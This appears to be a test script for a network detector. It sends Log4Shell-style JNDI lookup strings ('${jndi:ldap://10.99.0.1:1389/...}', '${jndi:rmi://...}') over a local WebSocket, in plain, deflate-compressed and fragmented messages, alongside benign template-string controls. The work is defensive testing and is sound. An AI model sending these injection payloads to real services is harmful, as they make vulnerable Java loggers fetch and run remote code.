# SPDX-License-Identifier: GPL-2.0-or-later
# WebSocket: Python's websockets on both ends, which offers and takes permessage-deflate as browsers do.

websocket_up() { serve in 8090 /usr/bin/python3 "$here/srv/websocket_echo.py" 10.99.0.2 8090; }

talk_out() { timeout 10 $OUT /usr/bin/python3 "$here/srv/websocket_talk.py" ws://10.99.0.2:8090/chat "$@"; }

websocket_names="websocket-text websocket-deflate websocket-fragments websocket-server benign-websocket
    benign-websocket-plain"
# shellcheck disable=SC2086
if wanted $websocket_names; then
    websocket_up
    scene websocket-text talk_out --plain 'hello' '${jndi:ldap://10.99.0.1:1389/text}'
    # What the second message repeats of the first is sent as a reference to it.
    scene websocket-deflate talk_out '{"user":"anna","text":"jndi:ldap://10.99.0.1:1389/deflate"}' \
        '{"user":"anna","text":"${jndi:ldap://10.99.0.1:1389/deflate}"}'
    scene websocket-fragments talk_out --plain --fragment 7 '{"text":"${jndi:ldap://10.99.0.1:1389/fragments}"}'
    scene websocket-server talk_out 'say:${jndi:rmi://10.99.0.1:1099/server}'
    scene benign-websocket talk_out '{"user":"${name}","text":"jndi and ldap"}' 'Hello ${name}, you owe ${amount:,.2f}' \
        'say:the template is ${greeting}'
    scene benign-websocket-plain talk_out --plain --fragment 5 'Hello ${name}' '${jndi' ':ldap://host/a}'
    stop_servers
fi
